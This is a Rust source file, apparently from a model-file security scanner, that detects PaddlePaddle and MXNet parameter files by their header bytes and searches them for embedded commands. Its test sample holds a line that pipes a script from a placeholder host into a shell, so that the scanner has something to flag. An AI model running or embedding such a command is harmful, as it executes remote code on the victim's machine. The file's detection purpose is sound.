//! Parameters of PaddlePaddle and MXNet: tensors behind a small header. Nothing in them runs.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "paddle_mxnet",
    title: "PaddlePaddle or MXNet parameters",
    family: "paddle",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    // NDArray lists of MXNet: 0x112. Parameters of Paddle begin with zeros: version and level.
    let mxnet = probe.starts(&[0x12, 1, 0, 0, 0, 0, 0, 0]);
    let paddle = probe.starts(&[0; 16]) && probe.has_at(20, &[0x08]) && probe.size() > 64;
    if mxnet { Some(Claim::Magic) } else { paddle.then_some(Claim::Structure) }
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"\x12\x01\0\0\0\0\0\0\x01\0".to_vec(),
            b"\x12\x01\0\0\0\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.params", good).verdict, Verdict::NothingFound);
        assert!(vet("m.params", bad).verdict.is_flagged());
    }
}
